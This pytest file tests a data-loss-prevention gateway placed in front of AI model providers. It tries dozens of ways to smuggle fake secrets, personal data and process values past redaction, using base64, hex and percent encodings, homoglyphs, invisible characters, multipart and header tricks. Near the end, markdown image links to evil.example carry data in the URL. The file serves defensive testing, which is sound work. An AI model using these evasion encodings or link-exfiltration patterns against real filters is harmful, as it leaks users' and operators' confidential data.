"""Ways around reading, tried from outside: whatever the disguise, what should stay never reaches the provider.

Each call may be refused, or pass without what it hid. What it may not do is carry it across."""

import base64
import codecs
import gzip
import html
import http.client
import json
import re
import subprocess
import unicodedata
import urllib.parse

import httpx
import pytest

from conftest import DEADLINE, HERE, Plant, Provider

KEY = "AKIA" + "Q3EGRTYUJK5LZXCV"
PASSWORD = "Xk29" + "dLq8vTz1Rw7p"
MAIL = "bob.miller@brewhouse-works.de"
TAG = "TIC-4711"
ADDRESS = "10.47.3.92"
TERM = "house yeast"
CARD = "4556737586899855"
HIDDEN = {
    "key": (f"use {KEY} for it", KEY),
    "password": (f"password={PASSWORD}", PASSWORD),
    "mail": (f"write to {MAIL} now", MAIL),
    "tag": (f"why did {TAG} trip", TAG),
    "address": (f"the PLC is at {ADDRESS} there", ADDRESS),
    "setpoint": (f"setpoint of {TAG} to 78.53 °C", "78.53"),
    "term": (f"pitch the {TERM} late", TERM),
    "card": (f"paid by card {CARD}", CARD),
}
HANDLING = """handling = [
    { label = "secret", do = "refuse" },
    { label = "person", do = "redact" },
    { label = "network", do = "redact" },
    { label = "setpoint", do = "redact" },
    { label = "tag", do = "tokenise" },
    { label = "recipe", do = "refuse" },
]"""
CONDUIT = """
[conduits.to-{0}]
from = ["line"]
to = "{0}"
purposes = ["advice"]
models = {1}
ceiling = "confidential"
owner = "Line engineering"
approved_by = "Security"
limits = {{ request_bytes = "24MiB", depth = 32 }}
{2}
"""


def strict():
    """The plant of the other tests, with one conduit to each provider that lets nothing of `HIDDEN` pass."""
    text = (HERE / "plant.toml").read_text()
    text = re.sub(r"(?ms)^\[conduits\..*?(?=^\[labels\])", "", text)
    text = text.replace("[labels]", '[providers.plain]\ndialect = "json"\naddress = "http://PROVIDER"\nzone = "edge"\nclearance = "restricted"\nsupplier = { name = "The plant itself" }\n\n[labels]')
    for provider in ("openai", "anthropic", "kserve", "plain"):
        text += CONDUIT.format(provider, '["*"]', HANDLING)
    return text + CONDUIT.format("ollama", '["llama3.2", "llava*"]', HANDLING)


class Watched(Provider):
    """A provider that is asked after every call what it saw, and tells no more than that."""

    def __init__(self):
        super().__init__()
        self.client = httpx.Client(base_url=f"http://{self.address}", timeout=DEADLINE)
        self.told, self.latest = 0, None

    def news(self):
        """What it saw since it was asked the last time."""
        news = self.client.get(f"/_seen?after={self.told}").json()
        self.told += len(news)
        self.latest = news[-1] if news else self.latest
        return news

    def last(self):
        self.news()
        return self.latest

    def close(self):
        self.client.close()
        super().close()


@pytest.fixture(scope="module")
def provider():
    provider = Watched()
    yield provider
    provider.close()


@pytest.fixture(scope="module")
def works(tmp_path_factory, provider):
    works = Plant(tmp_path_factory.mktemp("strict") / "works", provider, text=strict()).start()
    works.key = works.token("copilot")
    with works.client() as works.caller:
        yield works
    works.stop()
    assert "panicked" not in (works.folder / "log").read_text()
    assert works.penstock("verify", str(works.folder / "ledger"), plant=False).returncode == 0


@pytest.fixture(scope="module")
def other(works):
    """The token of another workload."""
    return works.token("planner")


@pytest.fixture
def call(works):
    def call(path, content=None, method="POST", kind="application/json", headers=()):
        content = json.dumps(content) if isinstance(content, (dict, list)) else content
        headers = [("authorization", f"Bearer {works.key}"), *headers]
        if kind:
            headers.append(("content-type", kind))
        return works.caller.request(method, works.base + path, content=content, headers=headers)

    return call


@pytest.fixture
def keeps(provider, call):
    """Makes a call and proves that what it hid did not get across, in whatever spelling the provider would undo."""

    def keeps(path, content, needle, **more):
        provider.news()
        answer = call(path, content, **more)
        crossed = provider.news()
        if answer.status_code != 200:
            assert crossed == [] and answer.status_code in (400, 403, 413, 415), answer.text
            return answer
        sent = json.dumps(crossed[-1], ensure_ascii=False)
        for _ in range(6):
            assert needle not in sent and needle not in plainly(sent), sent
            sent = unescape(sent)
        for word in re.findall(r"[A-Za-z0-9+/_-]{16,}", sent):
            assert needle.encode() not in base64.urlsafe_b64decode(word.replace("+", "-").replace("/", "_")[: len(word) // 4 * 4])
        for word in re.findall(r"(?:[0-9a-fA-F]{2}){8,}", sent):
            assert needle.encode() not in bytes.fromhex(word)
        return answer

    return keeps


def unescape(text):
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda found: chr(int(found[1], 16)), html.unescape(text))
    return re.sub(r"\\([^\w\s])", r"\1", re.sub(r"%([0-9a-fA-F]{2})", lambda found: chr(int(found[1], 16)), text))


# Russian letters that look like Latin ones.
THEIRS, OURS = "АВСЕНКМОРТХасерох", "ABCEHKMOPTXacepox"


def plainly(text):
    """As a reader sees it: without accents and what nobody sees, every letter and digit in its usual form."""
    text = unicodedata.normalize("NFKD", text).translate(str.maketrans(THEIRS, OURS))
    seen = (character for character in text if unicodedata.category(character) not in ("Mn", "Me", "Cc", "Cf"))
    return "".join(str(unicodedata.digit(character, character)) for character in seen)


def ascii_escapes(text):
    """JSON of a text with every character behind an escape."""
    return '"' + "".join(f"\\u{ord(character):04x}" for character in text) + '"'


def chat(content, **more):
    return {"model": "llama3.2", "messages": [{"role": "user", "content": content}], **more}


def tool(**function):
    return {"type": "function", "function": {"name": "look", "parameters": {"type": "object"}, **function}}


def called(arguments):
    return {"role": "assistant", "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "look", "arguments": arguments}}]}


OPENAI, ANTHROPIC, OLLAMA = "/openai/v1/chat/completions", "/anthropic/v1/messages", "/ollama/api/chat"
PLACES = {
    "chat": lambda text: (OPENAI, chat(text)),
    "system": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "system", "content": text}]}),
    "developer": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "developer", "content": [{"type": "text", "text": text}]}]}),
    "participant": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "user", "name": text, "content": "x"}]}),
    "role": lambda text: (OPENAI, {"model": "m", "messages": [{"role": text, "content": "x"}]}),
    "model": lambda text: (OPENAI, dict(chat("x"), model=text)),
    "user": lambda text: (OPENAI, chat("x", user=text)),
    "metadata": lambda text: (OPENAI, chat("x", metadata={"note": text})),
    "metadata key": lambda text: (OPENAI, chat("x", metadata={text: "x"})),
    "unknown field": lambda text: (OPENAI, chat("x", a_new_thing={"deep": [[{"er": text}]]})),
    "unknown key": lambda text: (OPENAI, chat("x", **{text: None})),
    "stop": lambda text: (OPENAI, chat("x", stop=[text])),
    "tool name": lambda text: (OPENAI, chat("x", tools=[tool(name=text)])),
    "tool description": lambda text: (OPENAI, chat("x", tools=[tool(description=text)])),
    "schema property": lambda text: (OPENAI, chat("x", tools=[tool(parameters={"type": "object", "properties": {text: {}}})])),
    "schema enum": lambda text: (OPENAI, chat("x", tools=[tool(parameters={"type": "string", "enum": [text]})])),
    "schema pattern": lambda text: (OPENAI, chat("x", tools=[tool(parameters={"type": "string", "pattern": text})])),
    "schema default": lambda text: (OPENAI, chat("x", tools=[tool(parameters={"properties": {"a": {"default": text, "const": text, "examples": [text], "$comment": text}}})])),
    "schema title": lambda text: (OPENAI, chat("x", tools=[tool(parameters={"properties": {"a": {"title": text}}, "$defs": {text: {"description": text}}})])),
    "functions of old": lambda text: (OPENAI, chat("x", functions=[{"name": "look", "description": text, "parameters": {}}], function_call={"name": text})),
    "tool choice": lambda text: (OPENAI, chat("x", tool_choice={"type": "function", "function": {"name": text}})),
    "response format": lambda text: (OPENAI, chat("x", response_format={"type": "json_schema", "json_schema": {"name": text, "description": text, "schema": {"title": text}}})),
    "logit bias": lambda text: (OPENAI, chat("x", logit_bias={text: 1})),
    "prediction": lambda text: (OPENAI, chat("x", prediction={"type": "content", "content": [{"type": "text", "text": text}]})),
    "cache key": lambda text: (OPENAI, chat("x", prompt_cache_key=text)),
    "safety identifier": lambda text: (OPENAI, chat("x", safety_identifier=text)),
    "service tier": lambda text: (OPENAI, chat("x", service_tier=text)),
    "place of a search": lambda text: (OPENAI, chat("x", web_search_options={"user_location": {"type": "approximate", "approximate": {"city": text}}})),
    "refusal": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "assistant", "refusal": text, "content": [{"type": "refusal", "refusal": text}]}]}),
    "spoken": lambda text: (OPENAI, chat([{"type": "input_audio", "input_audio": {"format": text, "data": base64.b64encode(text.encode()).decode()}}])),
    "custom tool": lambda text: (OPENAI, chat("x", tools=[{"type": "custom", "custom": {"name": "look", "format": {"type": "grammar", "grammar": {"syntax": "lark", "definition": text}}}}])),
    "tool result": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "c", "content": text}]}),
    "tool call id": lambda text: (OPENAI, {"model": "m", "messages": [{"role": "tool", "tool_call_id": text, "content": "x"}]}),
    "arguments": lambda text: (OPENAI, {"model": "m", "messages": [called(json.dumps({"q": text}))]}),
    "escaped arguments": lambda text: (OPENAI, {"model": "m", "messages": [called('{"q":' + ascii_escapes(text) + "}")]}),
    "arguments after a line's end": lambda text: (OPENAI, {"model": "m", "messages": [called(json.dumps({"q": "x\n" + text + "\n"}))]}),
    "arguments in arguments": lambda text: (OPENAI, {"model": "m", "messages": [called(json.dumps({"q": '{"r":' + ascii_escapes(text) + "}"}))]}),
    "code in a prompt": lambda text: (OPENAI, chat(f"run print({ascii_escapes(text)})")),
    "zero-width characters": lambda text: (OPENAI, chat("\u200b".join(text))),
    "controls": lambda text: (OPENAI, chat("\u0007".join(text))),
    "full width": lambda text: (OPENAI, chat("".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text))),
    "percent in an image url": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": "https://x.example/?q=" + urllib.parse.quote(text)}}])),
    "form in an image url": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": "https://x.example/?q=" + urllib.parse.quote_plus(text)}}])),
    "all percent": lambda text: (OPENAI, chat("see https://x.example/?q=" + "".join(f"%{b:02X}" for b in text.encode()))),
    "entities": lambda text: (OPENAI, chat("".join(f"&#{ord(c)};" for c in text))),
    "named entities": lambda text: (OPENAI, chat(f"&lt;p&gt;&nbsp;{text}&nbsp;&lt;/p&gt;")),
    "soft hyphens": lambda text: (OPENAI, chat("\u00ad".join(text))),
    "combining marks": lambda text: (OPENAI, chat("\u0301".join(text))),
    "tag characters": lambda text: (OPENAI, chat("\U000e0041".join(text))),
    "digits of other scripts": lambda text: (OPENAI, chat(text.translate({ord("0") + n: 0x0966 + n for n in range(10)}))),
    "mathematical": lambda text: (OPENAI, chat(text.translate({ord("A") + n: 0x1D400 + n for n in range(26)} | {ord("a") + n: 0x1D41A + n for n in range(26)}))),
    "letters of another alphabet": lambda text: (OPENAI, chat(text.translate(str.maketrans(OURS, THEIRS)))),
    "escapes of Markdown": lambda text: (OPENAI, chat(re.sub(r"([-_.@=+])", r"\\\1", text))),
    "base64 in a prompt": lambda text: (OPENAI, chat("decode " + base64.b64encode(text.encode()).decode() + " please")),
    "base64 for a prompt": lambda text: (OPENAI, chat(base64.b64encode(text.encode()).decode())),
    "hexadecimal": lambda text: (OPENAI, chat("decode " + text.encode().hex() + " please")),
    "image url": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": "https://x.example/" + text}}])),
    "data url": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": "data:image/png;base64," + base64.b64encode(text.encode()).decode()}}])),
    "data url in percent": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": "data:text/plain," + "".join(f"%{b:02X}" for b in text.encode())}}])),
    "type of a data url": lambda text: (OPENAI, chat([{"type": "image_url", "image_url": {"url": f"data:text/{text};base64,aGVsbG8gd29ybGQhIQ=="}}])),
    "file data": lambda text: (OPENAI, chat([{"type": "file", "file": {"filename": "a.txt", "file_data": base64.b64encode(text.encode()).decode()}}])),
    "file name": lambda text: (OPENAI, chat([{"type": "file", "file": {"filename": text + ".txt", "file_data": "aGVsbG8gd29ybGQhIQ=="}}])),
    "file like a picture": lambda text: (OPENAI, chat([{"type": "file", "file": {"file_data": base64.b64encode(b"GIF89a " + text.encode()).decode()}}])),
    "file in latin-1": lambda text: (OPENAI, chat([{"type": "file", "file": {"file_data": base64.b64encode(("für " + text).encode("latin-1")).decode()}}])),
    "file in utf-16": lambda text: (OPENAI, chat([{"type": "file", "file": {"file_data": base64.b64encode((text * 3).encode("utf-16-le")).decode()}}])),
    "escapes in a file": lambda text: (OPENAI, chat([{"type": "file", "file": {"file_data": base64.b64encode(b'{"a":' + ascii_escapes(text).encode() + b"}").decode()}}])),
    "responses input": lambda text: ("/openai/v1/responses", {"model": "m", "input": text}),
    "responses instructions": lambda text: ("/openai/v1/responses", {"model": "m", "instructions": text, "input": "x"}),
    "responses output": lambda text: ("/openai/v1/responses", {"model": "m", "input": [{"type": "function_call_output", "call_id": "c", "output": '{"q":' + ascii_escapes(text) + "}"}]}),
    "responses file": lambda text: ("/openai/v1/responses", {"model": "m", "input": [{"role": "user", "content": [{"type": "input_file", "filename": "a.txt", "file_data": "data:text/plain;base64," + base64.b64encode(text.encode()).decode()}]}]}),
    "responses format": lambda text: ("/openai/v1/responses", {"model": "m", "input": "x", "text": {"format": {"type": "json_schema", "name": text, "schema": {"enum": [text]}}}}),
    "responses variables": lambda text: ("/openai/v1/responses", {"model": "m", "prompt": {"id": "p", "variables": {"a": text}}}),
    "responses server": lambda text: ("/openai/v1/responses", {"model": "m", "input": "x", "tools": [{"type": "mcp", "server_label": text, "server_url": "https://x.example/?q=" + text, "authorization": text, "headers": {"x": text}}]}),
    "responses reasoning": lambda text: ("/openai/v1/responses", {"model": "m", "input": [{"type": "reasoning", "id": "r", "summary": [{"type": "summary_text", "text": text}], "encrypted_content": base64.b64encode(text.encode()).decode()}]}),
    "responses screen": lambda text: ("/openai/v1/responses", {"model": "m", "input": [{"type": "computer_call_output", "call_id": "c", "output": {"type": "computer_screenshot", "image_url": "data:image/png;base64," + base64.b64encode(text.encode()).decode()}}]}),
    "responses search": lambda text: ("/openai/v1/responses", {"model": "m", "input": "x", "tools": [{"type": "file_search", "vector_store_ids": [text], "filters": {"type": "eq", "key": text, "value": text}}]}),
    "responses previous": lambda text: ("/openai/v1/responses", {"model": "m", "input": "x", "previous_response_id": text}),
    "embeddings": lambda text: ("/openai/v1/embeddings", {"model": "m", "input": ["x", text]}),
    "image prompt": lambda text: ("/openai/v1/images/generations", {"model": "m", "prompt": text}),
    "speech": lambda text: ("/openai/v1/audio/speech", {"model": "m", "voice": "alloy", "input": text}),
    "moderations": lambda text: ("/openai/v1/moderations", {"model": "m", "input": text}),
    "anthropic": lambda text: (ANTHROPIC, dict(chat(text), max_tokens=9)),
    "anthropic system": lambda text: (ANTHROPIC, dict(chat("x"), max_tokens=9, system=[{"type": "text", "text": text}])),
    "anthropic tool input": lambda text: (ANTHROPIC, chat([{"type": "tool_use", "id": "t", "name": "look", "input": {"q": [text]}}])),
    "anthropic tool result": lambda text: (ANTHROPIC, chat([{"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": text}]}])),
    "anthropic document": lambda text: (ANTHROPIC, chat([{"type": "document", "title": text, "source": {"type": "text", "media_type": "text/plain", "data": text}}])),
    "anthropic base64": lambda text: (ANTHROPIC, chat([{"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": base64.b64encode(text.encode()).decode()}}])),
    "anthropic media type": lambda text: (ANTHROPIC, chat([{"type": "image", "source": {"type": "base64", "media_type": text, "data": "aGVsbG8gd29ybGQhIQ=="}}])),
    "anthropic stop": lambda text: (ANTHROPIC, dict(chat("x"), max_tokens=9, stop_sequences=[text], metadata={"user_id": text})),
    "anthropic thinking": lambda text: (ANTHROPIC, {"model": "m", "messages": [{"role": "assistant", "content": [{"type": "thinking", "thinking": text, "signature": text}, {"type": "redacted_thinking", "data": base64.b64encode(text.encode()).decode()}]}]}),
    "anthropic search": lambda text: (ANTHROPIC, chat([{"type": "search_result", "source": text, "title": text, "content": [{"type": "text", "text": text, "citations": [{"cited_text": text}]}]}])),
    "anthropic servers": lambda text: (ANTHROPIC, dict(chat("x"), mcp_servers=[{"type": "url", "url": "https://x.example/" + text, "name": text, "authorization_token": text}])),
    "anthropic tool": lambda text: (ANTHROPIC, dict(chat("x"), tools=[{"name": "look", "description": text, "input_schema": {"properties": {"a": {"enum": [text]}}}}])),
    "anthropic context": lambda text: (ANTHROPIC, chat([{"type": "document", "context": text, "source": {"type": "content", "content": [{"type": "text", "text": text}]}}])),
    "anthropic url": lambda text: (ANTHROPIC, chat([{"type": "image", "source": {"type": "url", "url": "https://x.example/" + urllib.parse.quote(text)}}])),
    "anthropic count": lambda text: ("/anthropic/v1/messages/count_tokens", chat(text)),
    "ollama": lambda text: (OLLAMA, chat(text, stream=False)),
    "ollama image": lambda text: (OLLAMA, {"model": "llama3.2", "messages": [{"role": "user", "content": "x", "images": [base64.b64encode(text.encode()).decode()]}]}),
    "ollama arguments": lambda text: (OLLAMA, {"model": "llama3.2", "messages": [{"role": "assistant", "tool_calls": [{"function": {"name": "look", "arguments": {text: text}}}]}]}),
    "ollama generate": lambda text: ("/ollama/api/generate", {"model": "llama3.2", "prompt": "x", "system": text, "template": text}),
    "ollama options": lambda text: (OLLAMA, dict(chat("x"), options={"stop": [text]}, keep_alive=text, format={"description": text})),
    "ollama tool": lambda text: (OLLAMA, dict(chat("x"), tools=[tool(description=text)])),
    "ollama embed": lambda text: ("/ollama/api/embed", {"model": "llama3.2", "input": [text]}),
    "kserve": lambda text: ("/kserve/v2/models/weld/infer", {"inputs": [{"name": "a", "shape": [1], "datatype": "BYTES", "data": [text]}]}),
    "kserve name": lambda text: ("/kserve/v2/models/weld/infer", {"inputs": [{"name": text, "shape": [1], "datatype": "BYTES", "data": ["x"]}]}),
    "kserve outputs": lambda text: ("/kserve/v2/models/weld/infer", {"inputs": [], "outputs": [{"name": text, "parameters": {text: text}}]}),
    "kserve bytes": lambda text: ("/kserve/v2/models/weld/infer", {"inputs": [{"name": "a", "shape": [1], "datatype": "BYTES", "data": [base64.b64encode(text.encode()).decode()]}]}),
    "kserve parameters": lambda text: ("/kserve/v2/models/weld/infer", {"id": text, "parameters": {"a": text}, "inputs": []}),
    "kserve generate": lambda text: ("/kserve/v2/models/weld/generate", {"text_input": text}),
    "json": lambda text: ("/plain/predict", {"x": [text]}),
    "json list": lambda text: ("/plain/predict", [[text]]),
    "json text": lambda text: ("/plain/predict", json.dumps(text)),
    "json key": lambda text: ("/plain/predict", {text: 1}),
}


@pytest.mark.parametrize("what", HIDDEN)
@pytest.mark.parametrize("place", PLACES)
def test_no_place_of_a_json_body_is_a_way_around(keeps, place, what):
    text, needle = HIDDEN[what]
    path, body = PLACES[place](text)
    keeps(path, body, needle)


def form(*parts, boundary="x"):
    body = b"".join(b"--%s\r\n%s\r\n\r\n%s\r\n" % (boundary.encode(), head.encode(), content) for head, content in parts)
    return body + b"--%s--\r\n" % boundary.encode(), f"multipart/form-data; boundary={boundary}"


def field(name, file=None, kind=None):
    file, kind = f'; filename="{file}"' if file else "", f"\r\nContent-Type: {kind}" if kind else ""
    return f'Content-Disposition: form-data; name="{name}"{file}{kind}'


FILE = field("file", "a.jsonl", "application/octet-stream")
FORMS = {
    "field": lambda text: form((field("model"), b"m"), (field("prompt"), text.encode())),
    "unknown field": lambda text: form((field("model"), b"m"), (field("odd"), text.encode())),
    "field name": lambda text: form((field("model"), b"m"), (field(text), b"x")),
    "model": lambda text: form((field("model"), text.encode())),
    "file name": lambda text: form((field("file", text + ".txt"), b"hello")),
    "type of a part": lambda text: form((field("file", "a", f'text/plain; a="{text}"'), b"hello")),
    "text file": lambda text: form((FILE, text.encode())),
    "text file that claims a picture": lambda text: form((field("file", "a.png", "image/png"), text.encode())),
    "text file that begins like one": lambda text: form((FILE, b"GIF89a " + text.encode())),
    "text file of another charset": lambda text: form((field("file", "a", "text/plain; charset=utf-16"), text.encode() * 2)),
    "text file in latin-1": lambda text: form((FILE, ("für " + text).encode("latin-1"))),
    "text file in utf-16": lambda text: form((FILE, codecs.BOM_UTF16_LE + (text * 4).encode("utf-16-le"))),
    "text file with a zero": lambda text: form((FILE, text.encode() + b"\0")),
    "line of a batch": lambda text: form((FILE, b'{"custom_id":"1","body":{"messages":[{"content":' + ascii_escapes(text).encode() + b"}]}}\n")),
    "arguments in a batch": lambda text: form((FILE, json.dumps({"body": called('{"q":' + ascii_escapes(text) + "}")}).encode())),
    "preamble": lambda text: (text.encode() + b"\r\n" + form((FILE, b"x"))[0], form()[1]),
    "epilogue": lambda text: (form((FILE, b"x"))[0] + text.encode(), form()[1]),
    "header of a part": lambda text: form((FILE + f"\r\nX-Note: {text}", b"x")),
    "base64 part": lambda text: form((FILE + "\r\nContent-Transfer-Encoding: base64", base64.b64encode(text.encode()))),
    "extended file name": lambda text: form(("Content-Disposition: form-data; name=\"file\"; filename*=utf-8''" + urllib.parse.quote(text), b"x")),
    "name in another form": lambda text: form((f"Content-Disposition: form-data; name=\"prompt\"; name*=utf-8''{urllib.parse.quote(text)}", b"x")),
    "form in a form": lambda text: form((field("file", "a", "multipart/mixed; boundary=y"), b"--y\r\n\r\n" + text.encode() + b"\r\n--y--")),
    "percent in a field": lambda text: form((field("model"), b"m"), (field("prompt"), urllib.parse.quote(text).encode())),
    "second model": lambda text: form((field("model"), b"m"), (field("model"), text.encode())),
}


@pytest.mark.parametrize("what", HIDDEN)
@pytest.mark.parametrize("place", FORMS)
def test_no_place_of_a_form_is_a_way_around(keeps, place, what):
    text, needle = HIDDEN[what]
    body, kind = FORMS[place](text)
    keeps("/openai/v1/audio/transcriptions" if "model" in place or "field" in place else "/openai/v1/files", body, needle, kind=kind)


def test_a_boundary_is_no_way_around(keeps):
    body, kind = form((FILE, b"hello"), boundary=KEY)
    assert keeps("/openai/v1/files", body, KEY, kind=kind).status_code == 403


@pytest.mark.parametrize("what", HIDDEN)
def test_a_query_is_no_way_around(keeps, what):
    text, needle = HIDDEN[what]
    for query in (urllib.parse.quote(text), urllib.parse.quote_plus(text), "".join(f"%{b:02x}" for b in text.encode())):
        keeps(f"/openai/v1/models?note={query}", None, needle, method="GET", kind=None)
        keeps(f"{OPENAI}?note={query}", chat("x"), needle)


@pytest.mark.parametrize("name", ["user-agent", "accept", "idempotency-key", "openai-organization", "openai-note", "anthropic-beta"])
@pytest.mark.parametrize("what", HIDDEN)
def test_a_header_that_leaves_is_content(keeps, name, what):
    text, needle = HIDDEN[what]
    for value in (text.encode(), urllib.parse.quote(text).encode()):
        if not re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", value):
            keeps(OPENAI, chat("x"), needle, headers=[(name, value.strip())])
    keeps("/openai/v1/models", None, needle, method="GET", kind=None, headers=[(name, urllib.parse.quote_plus(text))])


@pytest.mark.parametrize("path", ["/openai/v1/models/{}", "/openai/v1/files/{}", "/kserve/v2/models/{}", "/plain/{}/x", "/plain/a-{}"])
@pytest.mark.parametrize("needle", [KEY, TAG, ADDRESS, MAIL])
def test_a_path_is_no_way_around(keeps, path, needle):
    keeps(path.format(needle), None, needle, method="GET", kind=None)
    keeps("/plain/" + needle, {"x": 1}, needle)


@pytest.mark.parametrize(
    "body, needle",
    [
        ({"card": int(CARD)}, CARD),
        ({"heater_setpoint": 78.53}, "78.53"),
        ({TAG: 78.53}, "78.53"),
        ({"password": PASSWORD}, PASSWORD),
        ({"password": [PASSWORD]}, PASSWORD),
        ({"x-api-key": PASSWORD}, PASSWORD),
        ({"password1": PASSWORD}, PASSWORD),
        ({"password": PASSWORD[:5] + '"' + PASSWORD[5:]}, PASSWORD[5:]),
        ('{"p\\u0061ssword": "%s"}' % PASSWORD, PASSWORD),
    ],
)
def test_a_key_tells_what_its_value_is(keeps, body, needle):
    keeps("/plain/predict", body, needle)
    body = body if isinstance(body, str) else json.dumps(body)
    keeps(ANTHROPIC, json.dumps(chat([{"type": "tool_use", "id": "t", "name": "n", "input": 0}])).replace('"input": 0', '"input": ' + body), needle)


@pytest.mark.parametrize(
    "body",
    [
        '{"model":"m","messages":[],"Messages":[{"role":"user","content":"%s"}]}' % KEY,
        '{"model":"m","messages":[],"messages":[{"role":"user","content":"%s"}]}' % KEY,
        '{"model":"m","messages":[{"role":"user","content":"x","content":"%s"}]}' % KEY,
        '{"model":"m","messages":[]}{"x":"%s"}' % KEY,
        '{"model":"m","messages":[]}\n%s' % KEY,
        '{"model":"m","messages":[] /* %s */}' % KEY,
        '{"model":"m","messages":[],}',
        "{'model':'m','x':'%s'}" % KEY,
    ],
)
def test_two_readings_of_one_body_are_none(keeps, body):
    assert keeps(OPENAI, body, KEY).status_code in (400, 403)


@pytest.mark.parametrize("header", ["Inference-Header-Content-Length", "inference-header-content-length"])
def test_bytes_behind_the_json_of_a_tensor_do_not_cross(keeps, provider, call, header):
    body = json.dumps({"inputs": [{"name": "a", "shape": [1], "datatype": "BYTES", "data": ["x"]}]})
    path = "/kserve/v2/models/weld/infer"
    assert keeps(path, body + KEY, KEY, headers=[(header, str(len(body)))]).status_code == 400
    assert keeps(path, body + KEY, KEY, kind="application/octet-stream", headers=[(header, str(len(body)))]).status_code == 415
    assert call(path, body, headers=[(header, "4")]).status_code == 200
    assert "inference-header-content-length" not in provider.last()["headers"]
    binary = {"inputs": [{"name": "a", "shape": [1], "datatype": "BYTES", "parameters": {"binary_data_size": 9}}]}
    assert keeps(path, json.dumps(binary), KEY).status_code == 400


@pytest.mark.parametrize("kind", ["application/json; charset=utf-16", "application/json; charset=utf-7", "application/json; charset=ibm037", "text/json", "application/x-www-form-urlencoded", "application/json, text/plain", "application/json; charset=utf-8; charset=utf-16"])
def test_a_body_of_another_charset_or_kind_goes_nowhere(keeps, kind):
    assert keeps(OPENAI, json.dumps(chat("hello")), "hello", kind=kind).status_code in (400, 415)


def test_two_content_types_are_none(keeps, works):
    body, kind = form((field("model"), b"m"), (FILE, b"hello"))
    assert keeps(OPENAI, json.dumps(chat("x")), "never", headers=[("content-type", "text/plain")]).status_code in (400, 415)
    assert keeps("/openai/v1/files", body, "hello", kind=kind, headers=[("content-type", "multipart/form-data; boundary=y")]).status_code in (400, 415)


@pytest.mark.parametrize("encoding", ["gzip, identity", "GZIP", "x-gzip", "identity", "compress", "aws-chunked", "gzip,gzip"])
def test_an_encoding_hides_nothing(keeps, encoding):
    body = gzip.compress(json.dumps(chat(KEY)).encode())
    keeps(OPENAI, body, KEY, headers=[("content-encoding", encoding)])
    keeps(OPENAI, gzip.compress(json.dumps(chat("x")).encode()) + body, KEY, headers=[("content-encoding", "gzip")])


HEADERS = ["x-note", "cookie", "referer", "x-forwarded-for", "x-stainless-note", "accept-language", "if-match", "range", "te", "x-http-method-override", "forwarded", "via", "from", "origin", "traceparent", "baggage"]


@pytest.mark.parametrize("header", HEADERS)
def test_a_header_is_no_way_around(keeps, header):
    keeps(OPENAI, chat("x"), KEY, headers=[(header, KEY)])


def test_a_workload_token_stays_whatever_header_it_is_in(keeps, works):
    for header in ("x-api-key", "openai-organization", "anthropic-note", "user-agent", "accept", "idempotency-key", "proxy-authorization"):
        keeps(OPENAI, chat("x"), works.key, headers=[(header, works.key)])


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "PUT", "PATCH", "TRACE", "DELETE", "PROPFIND"])
def test_a_method_that_no_endpoint_has_goes_nowhere(keeps, method):
    assert keeps(OPENAI, json.dumps(chat("x")), "never", method=method).status_code == 403


@pytest.mark.parametrize("method", ["POSt", "post", "GETPOST", "P\u00d6ST"])
def test_a_method_in_another_spelling_goes_nowhere(works, provider, method):
    """Past the client of the other tests, which writes a method in capitals."""
    provider.news()
    connection = http.client.HTTPSConnection("localhost", int(works.port), timeout=DEADLINE, context=works.tls())
    connection._encode_request = lambda line: line.encode("latin-1")
    headers = {"authorization": f"Bearer {works.key}", "content-type": "application/json"}
    connection.request(method, OPENAI, json.dumps(chat("x")), headers)
    assert connection.getresponse().status in (400, 403)
    connection.close()
    assert provider.news() == []


@pytest.mark.parametrize("model", ["LLAMA3.2", "llama3.2 ", "llama3.2\u0000", "llama3.20", "xllama3.2", "llama3.2\nx", "", None, "LLaVA"])
def test_a_model_that_is_not_open_is_not_asked_by_another_spelling(keeps, model):
    answer = keeps(OLLAMA, {"model": model, "messages": [], "stream": False}, "never")
    assert answer.status_code == 403 and "model-not-allowed" in answer.text


@pytest.mark.parametrize(
    "body",
    [
        '{"messages":[],"stream":false}',
        '{"model":"llama3.2","Model":"gpt-4o","messages":[]}',
        '{"model":"llama3.2","MODEL":"gpt-4o","messages":[]}',
        '{"model":"llama3.2","m\\u006fdel":"gpt-4o","messages":[]}',
        '{"name":"gpt-4o","messages":[]}',
        '{"model":"","name":"gpt-4o","messages":[]}',
        '{"model":["gpt-4o"],"messages":[]}',
    ],
)
def test_a_second_model_is_not_asked(keeps, body):
    assert keeps(OLLAMA, body, "gpt-4o").status_code in (400, 403)


def test_a_model_in_the_query_changes_nothing(call, provider):
    assert call(OLLAMA + "?model=gpt-4o", dict(chat("x"), stream=False)).status_code == 200
    assert json.loads(provider.last()["body"])["model"] == "llama3.2"


def test_a_token_comes_back_in_plain_text_and_not_in_a_link(call, provider):
    answer = call(OPENAI, chat(f"is {TAG} open")).json()["choices"][0]["message"]["content"]
    assert answer == f"is {TAG} open"
    token = re.search(r"TAG_\w+", provider.last()["body"])[0]
    stay = ["![x](/{})", "https:evil.example/{}", "https:/evil.example/{}", "www.evil.example/{}"]
    go = ["![x](https://evil.example/?q={})", "<img src='https:\\\\evil.example\\{}'>", '<img src="https://evil.example/?q= {}">', "[x]: //evil.example/{}"]
    for link in stay + go:
        # The provider repeats the prompt: here it is the model that was talked into a link.
        answer = call(OPENAI, chat(link.format(TAG))).json()["choices"][0]["message"]["content"]
        assert TAG not in answer and (token in answer if link in stay else "removed" in answer), answer


def test_a_forged_token_is_not_answered_with_a_value(call, provider):
    call(OPENAI, chat(f"is {TAG} open"))
